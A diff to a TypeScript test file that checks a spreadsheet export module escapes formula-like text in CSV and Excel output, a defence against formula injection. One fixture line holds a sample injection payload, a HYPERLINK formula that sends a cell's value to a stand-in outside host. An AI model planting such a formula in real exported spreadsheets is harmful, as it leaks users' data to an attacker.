@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { FORMULA_START, toCsv, toXlsx, type ExportTable } from './spreadsheet';
+import { csvFormulaCells, formulaCells } from './spreadsheet-check';
 
 const DANGEROUS = [
   '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
@@ -33,6 +34,7 @@ describe('CSV export', () => {
   it('prefixes text that a spreadsheet would read as a formula, and keeps everything else as written', async () => {
     const csv = await toCsv(table);
     expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(csvFormulaCells(csv)).toEqual([]);
     const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
     expect(parsed.errors).toEqual([]);
     const [header, first, ...rest] = parsed.data;
@@ -72,8 +74,10 @@ describe('Excel export', () => {
       const cell = sheet.getRow(3 + i).getCell(2);
       expect(cell.type).toBe(ExcelJS.ValueType.String);
       expect(cell.formula).toBeUndefined();
-      expect(cell.value).toBe(title);
+      // The same rule as the CSV: the text is kept, behind an apostrophe.
+      expect(cell.value).toBe(`'${title}`);
     });
+    expect(formulaCells(workbook)).toEqual([]);
     sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 
